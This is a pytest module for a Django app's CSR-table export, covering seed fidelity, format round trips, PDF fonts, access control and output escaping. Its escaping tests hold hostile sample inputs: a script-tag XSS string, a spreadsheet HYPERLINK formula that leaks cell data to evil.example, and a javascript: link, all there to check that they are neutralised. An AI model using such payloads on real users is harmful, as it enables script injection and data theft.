"""The year's table out: the seed reproduced cell for cell, every format round-tripped
through an import into an empty database, escaping, fonts, and the permission gate."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from django.core.exceptions import PermissionDenied
from django.db import connection, transaction
from openpyxl import load_workbook

from tatara.core.permissions import SystemActor
from tatara.cycle import table_export, table_import
from tatara.cycle.table_export import CSV_COLUMNS, FORMATS, export_table
from tatara.demo.builder import build_demo
from tatara.organisation import services as org_services
from tatara.organisation.choices import UnitKind

# Every test is marked, so that selecting any of them sets up the test database before the
# module-wide `demo_exports` fixture writes (and rolls back) there.
pytestmark = pytest.mark.django_db

SEED = Path(__file__).resolve().parents[2].parent / "shared" / "seeds" / "000_ed10fe742b716b12.txt"
ACTOR = SystemActor("test-export")


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def _pdf_tool(name: str) -> str:
    path = shutil.which(name)
    if path is None:
        if os.environ.get("CI") == "true":
            pytest.fail(f"{name} (poppler-utils) is required under CI")
        pytest.skip(f"{name} (poppler-utils) is not installed")
    return path


def _pdf_text(pdf: bytes, tmp_path: Path) -> str:
    source = tmp_path / "table.pdf"
    source.write_bytes(pdf)
    command = [_pdf_tool("pdftotext"), "-enc", "UTF-8", str(source), "-"]
    out = subprocess.run(command, capture_output=True, check=True)
    return out.stdout.decode("utf-8")


def _pdf_fonts(pdf: bytes, tmp_path: Path) -> list[list[str]]:
    source = tmp_path / "fonts.pdf"
    source.write_bytes(pdf)
    command = [_pdf_tool("pdffonts"), str(source)]
    out = subprocess.run(command, capture_output=True, check=True, text=True)
    return [line.split() for line in out.stdout.splitlines()[2:] if line.strip()]


@pytest.fixture(scope="module")
def demo_exports(django_db_setup: Any, django_db_blocker: Any) -> dict[Any, Any]:
    """Every format of the demo's FY2019 and FY2020 tables, built once for the module inside
    a transaction that is rolled back, so each test still starts from an empty database."""
    with django_db_blocker.unblock(), transaction.atomic():
        assert_test_database()
        demo = build_demo()
        csr = demo["users"]["csr"]
        exports: dict[Any, Any] = {
            (year, fmt): export_table(viewer=csr, year=year, fmt=fmt)[0]
            for year in (2019, 2020)
            for fmt in FORMATS
        }
        exports["note", 2019] = demo["fy2019"].note
        exports["note", 2020] = demo["fy2020"].note
        transaction.set_rollback(True)
    return exports


def assert_test_database() -> None:
    name = str(connection.settings_dict["NAME"])
    if "memorydb" not in name and not Path(name).name.startswith("test"):
        pytest.fail(f"refusing to build the demo outside the test database ({name})")


def _group() -> Any:
    return org_services.create_unit(
        actor=ACTOR, code="hm-group", name="Hitachi Metals Group", kind=UnitKind.GROUP
    )


# --- the seed, cell for cell ------------------------------------------------------------------


def _seed_rows() -> list[dict[str, Any]]:
    """The 22 rated rows of the seed's table IV.1(4)(b), with their subject, cleaned of the
    page's markup and of the column headings that page breaks pasted into some cells."""
    if not SEED.is_file():
        if os.environ.get("CI") == "true":
            pytest.fail(f"the seed file is missing: {SEED}")
        pytest.skip(f"the seed file is not here ({SEED})")
    text = SEED.read_text(encoding="utf-8")
    start = text.index("(b) Fiscal 2019 Initiative Results and Fiscal 2020 Plans")
    end = text.index("(5) Economic Performance", start)
    headings = (
        "FY2019 Measures (Planned)",
        "FY2019 Measures (Results)",
        "Measures Planned for FY2020",
    )

    def clean(cell: str) -> str:
        cell = re.sub(r"<ul[^>]*>", " ", cell).replace("<i>", "").replace("</i>", "")
        for heading in headings:
            cell = cell.replace(heading, " ")
        return " ".join(cell.split())

    rows: list[dict[str, Any]] = []
    subject: tuple[int, str] | None = None
    for line in text[start:end].splitlines():
        heading = re.fullmatch(r"(\d+)\. ([^\t]+?)\t+\s*", line)
        if heading:
            subject = (int(heading[1]), heading[2].strip())
            continue
        cells = line.split("\t")
        if len(cells) == 4 and re.fullmatch(r"★{1,3}", cells[2].strip()):
            assert subject is not None, line
            rows.append(
                {
                    "subject_no": subject[0],
                    "subject": subject[1],
                    "planned": clean(cells[0]),
                    "results": clean(cells[1]),
                    "rating": len(cells[2].strip()),
                    "next_planned": clean(cells[3]),
                }
            )
    return rows


def test_fy2019_csv_reproduces_the_seed_table_cell_for_cell(demo_exports: dict[Any, Any]) -> None:
    seed = _seed_rows()
    exported = _csv_rows(demo_exports[2019, "csv"])
    assert len(seed) == 22
    assert len(exported) == len(seed)
    assert list(exported[0]) == list(CSV_COLUMNS)
    for number, (want, got) in enumerate(zip(seed, exported, strict=True), start=1):
        where = f"rated row {number} of the seed"
        assert int(got["subject_no"]) == want["subject_no"], where
        assert got["subject"] == want["subject"], where
        for column in ("planned", "results", "next_planned"):
            assert " ".join(got[column].split()) == want[column], f"{where}, {column}"
        assert int(got["rating"]) == want["rating"], where


def test_csv_layout_items_on_lines_and_ratings(demo_exports: dict[Any, Any]) -> None:
    data = demo_exports[2019, "csv"]
    assert data.startswith(b"subject_no,subject,planned,results,rating,next_planned\r\n")
    rows = _csv_rows(data)
    third = rows[2]
    assert (
        third["planned"].split("\n")[1]
        == "Conduct environmental education at the Head Office and each company (ongoing)"
    )
    assert {r["rating"] for r in rows} == {"1", "2", "3"}
    # FY2020 was carried forward: plans only, nothing rated yet.
    fy2020 = _csv_rows(demo_exports[2020, "csv"])
    assert fy2020 and all(r["rating"] == "" and r["results"] == "" for r in fy2020)


# --- round trips ------------------------------------------------------------------------------


@pytest.mark.parametrize(("year", "source"), [(2019, "csv"), (2019, "xlsx"), (2020, "csv")])
def test_export_import_into_an_empty_database_export_gives_identical_files(
    demo_exports: dict[Any, Any], year: int, source: str
) -> None:
    _group()
    result = table_import.import_table(
        io.BytesIO(demo_exports[year, source]),
        name=f"table.{source}",
        actor=ACTOR,
        year=year,
        note=demo_exports["note", year],
    )
    assert result.initiatives == len(_csv_rows(demo_exports[year, "csv"]))
    for fmt in FORMATS if source == "csv" and year == 2019 else ("csv", "xlsx", "md", "html"):
        again = export_table(viewer=ACTOR, year=year, fmt=fmt)[0]
        assert again == demo_exports[year, fmt], f"FY{year} {fmt} after importing the {source}"


def test_equal_data_gives_equal_bytes_and_filenames(demo_exports: dict[Any, Any]) -> None:
    workbook = load_workbook(io.BytesIO(demo_exports[2019, "xlsx"]))
    assert workbook.sheetnames == ["FY2019", "Table"]
    assert workbook.properties.modified.year == 2000  # no time stamp of the export
    assert demo_exports[2019, "pdf"].startswith(b"%PDF-")
    assert b"/CreationDate" not in demo_exports[2019, "pdf"]


def test_content_types_and_download_names() -> None:
    _group()
    for fmt in FORMATS:
        data, content_type, filename = export_table(viewer=ACTOR, year=2031, fmt=fmt)
        assert filename == f"tatara-FY2031-csr-table.{fmt}"
        assert content_type == table_export.CONTENT_TYPES[fmt]
        assert data
    with pytest.raises(ValueError, match="unknown format"):
        export_table(viewer=ACTOR, year=2031, fmt="docx")


# --- the formats' content -----------------------------------------------------------------------


def test_xlsx_has_the_importable_sheet_and_the_report_layout(demo_exports: dict[Any, Any]) -> None:
    workbook = load_workbook(io.BytesIO(demo_exports[2019, "xlsx"]))
    data = workbook["FY2019"]
    assert [c.value for c in data[1]] == list(CSV_COLUMNS)
    assert data.freeze_panes == "A2"
    assert data["C3"].alignment.wrap_text
    assert data["C4"].value.count("\n") == 2
    assert data.column_dimensions["C"].width >= 50
    table = workbook["Table"]
    values = [[c.value for c in row] for row in table.iter_rows()]
    header = [
        "FY2019 Measures (Planned)",
        "FY2019 Measures (Results)",
        "Self-assessment",
        "Measures Planned for FY2020",
    ]
    assert header in values
    assert ["1. Recognition of Social Responsibility", None, None, None] in values
    first = values[values.index(["1. Recognition of Social Responsibility", None, None, None]) + 1]
    assert first[0].startswith("• Seek advice") and first[2] == "★"
    assert sum(1 for row in values if row[2] in {"★", "★★", "★★★"}) == 22


def test_markdown_has_title_legend_note_and_a_table_per_subject(
    demo_exports: dict[Any, Any],
) -> None:
    text = demo_exports[2019, "md"].decode("utf-8")
    assert text.startswith("# FY2019 Initiative Results and FY2020 Plans\n")
    assert "\n★★★ Achieved ★★ 90% achieved ★ Not achieved\n" in text
    assert "\nSome of the FY2019 measures (planned) have been reviewed.\n" in text
    assert (
        text.count(
            "| FY2019 Measures (Planned) | FY2019 Measures (Results) | Self-assessment | Measures Planned for FY2020 |"
        )
        == 9
    )
    assert "### 9. Review and Improvement of CSR Activities" in text
    assert (
        "| • Seek advice on/assessment of the Company's CSR activities from outside experts (ongoing) | • Not implemented in FY2019. | ★ |"
        in text
    )
    assert "(ongoing)<br>• Conduct environmental education" in text


def test_pdf_is_a4_landscape_with_page_numbers_and_the_bundled_font(
    demo_exports: dict[Any, Any], tmp_path: Path
) -> None:
    pdf = demo_exports[2019, "pdf"]
    text = _pdf_text(pdf, tmp_path)
    pages = text.split("\f")[:-1]
    assert len(pages) >= 3
    for number, page in enumerate(pages, start=1):
        assert re.search(rf"^{number} ?/ ?{len(pages)}$", page, re.MULTILINE), (
            f"page {number} has no number"
        )
        assert "Measures Planned for FY2020" in page  # the header repeats on every page
    assert "★★★" in text and "Self-assessment" in text
    assert "Seek advice on/assessment of the Company's CSR activities" in " ".join(text.split())
    fonts = _pdf_fonts(pdf, tmp_path)
    assert fonts and all("Tatara-JP" in row[0] for row in fonts), fonts
    assert all(row[-5] == "yes" for row in fonts)  # embedded
    pdfinfo = [_pdf_tool("pdfinfo"), str(tmp_path / "table.pdf")]
    info = subprocess.run(pdfinfo, capture_output=True, text=True, check=True)
    assert "841.89 x 595.276 pts (A4)" in info.stdout


def test_user_text_is_escaped_and_japanese_renders_in_the_bundled_font(tmp_path: Path) -> None:
    _group()
    hostile = "<script>alert('x')</script> & <i>tatara</i> | pipe"
    table = (
        "subject_no,subject,planned,results,rating,next_planned\n"
        f'2,Organizational Governance,"{hostile}\nコンプライアンス研修を実施する（継続）","CO₂ 1.4%削減",2,"次年度も継続する"\n'
    )
    table_import.import_table(
        io.BytesIO(table.encode("utf-8")), name="x.csv", actor=ACTOR, year=2030
    )

    html = export_table(viewer=ACTOR, year=2030, fmt="html")[0].decode("utf-8")
    assert "<script>" not in html and "<i>tatara" not in html
    assert (
        "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; &amp; &lt;i&gt;tatara&lt;/i&gt; | pipe"
        in html
    )
    assert "コンプライアンス研修を実施する（継続）" in html and "CO₂" in html
    assert "file://" not in html  # the page itself needs nothing from the server

    md = export_table(viewer=ACTOR, year=2030, fmt="md")[0].decode("utf-8")
    assert "&lt;script>alert('x')&lt;/script> & &lt;i>tatara&lt;/i> \\| pipe" in md
    assert "<script>" not in md

    pdf = export_table(viewer=ACTOR, year=2030, fmt="pdf")[0]
    text = " ".join(_pdf_text(pdf, tmp_path).split())
    assert "<script>alert('x')</script> & <i>tatara</i> | pipe" in text
    assert "コンプライアンス研修を実施する（継続）" in text
    assert "次年度も継続する" in text
    assert "★★" in text
    assert all("Tatara-JP" in row[0] for row in _pdf_fonts(pdf, tmp_path))  # no fallback font


# --- the permission gate ----------------------------------------------------------------------


def test_exports_show_only_the_viewers_scope(world: Any) -> None:
    everything = _csv_rows(
        export_table(viewer=world.users["auditor"], year=world.year, fmt="csv")[0]
    )
    assert len(everything) == 4
    for key in ("officer_b", "company_risk_officer", "compliance_dept"):
        for fmt in ("csv", "md", "html", "xlsx"):
            data = export_table(viewer=world.users[key], year=world.year, fmt=fmt)[0]
            if fmt == "xlsx":
                workbook = load_workbook(io.BytesIO(data))
                data = "\n".join(
                    str(c.value) for ws in workbook for row in ws.iter_rows() for c in row
                ).encode()
            shown = data.decode("utf-8")
            for marker in world.markers_outside(key):
                assert marker not in shown, f"{key} sees {marker} in the {fmt}"
    bravo = _csv_rows(export_table(viewer=world.users["officer_b"], year=world.year, fmt="csv")[0])
    assert len(bravo) == 2 and all("~bravo" in r["planned"] for r in bravo)
    with pytest.raises(PermissionDenied):
        export_table(viewer=world.users["employee"], year=world.year, fmt="csv")


def test_another_companys_officer_exports_an_empty_table(
    world: Any, make_unit: Any, make_user: Any, grant: Any
) -> None:
    charlie = make_unit(
        code="charlie", name="Charlie Co", kind=UnitKind.COMPANY, parent=world.units["grp"]
    )
    officer = make_user(username="officer_c")
    grant(officer, "company_risk_officer", charlie)
    assert (
        export_table(viewer=officer, year=world.year, fmt="csv")[0]
        == b"subject_no,subject,planned,results,rating,next_planned\r\n"
    )
    md = export_table(viewer=officer, year=world.year, fmt="md")[0].decode()
    assert "No initiatives." in md and "~" not in md


def test_web_and_api_exports_pass_the_gate(world: Any, client: Any) -> None:
    client.force_login(world.users["employee"])
    assert client.get(f"/cycle/{world.year}/export.csv").status_code in (403, 404)
    assert client.get(f"/api/v1/fiscal-years/{world.year}/table/").status_code in (403, 404)
    client.force_login(world.users["officer_b"])
    response = client.get(f"/cycle/{world.year}/export.csv")
    assert response.status_code == 200
    assert (
        response["Content-Disposition"]
        == f'attachment; filename="tatara-FY{world.year}-csr-table.csv"'
    )
    body = response.content.decode()
    assert "~bravo" in body and "~alpha" not in body
    api = client.get(f"/api/v1/fiscal-years/{world.year}/table/")
    assert api.status_code == 200 and api.content == response.content


def test_csv_cells_that_would_run_as_formulas_are_guarded_and_round_trip() -> None:
    from tatara.core.tabular import read_table, write_csv

    cells = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(A1)", "+1", "-2", "plain"]
    data = write_csv(["text"], [[c] for c in cells])
    lines = data.decode().splitlines()[1:]
    assert all(line.lstrip('"').startswith("'") for line in lines[:4])
    assert lines[4] == "plain"
    table = read_table(io.BytesIO(data), name="guarded.csv", required=["text"])
    assert [row.text("text") for row in table.rows] == cells


def test_markdown_keeps_links_and_images_in_user_text_as_text() -> None:
    from tatara.cycle.table_export import md_escape

    escaped = md_escape("[click](javascript:alert(1)) ![x](http://evil.example/t.png)")
    assert "[click]" not in escaped and "![x]" not in escaped
    assert "\\[click\\]" in escaped
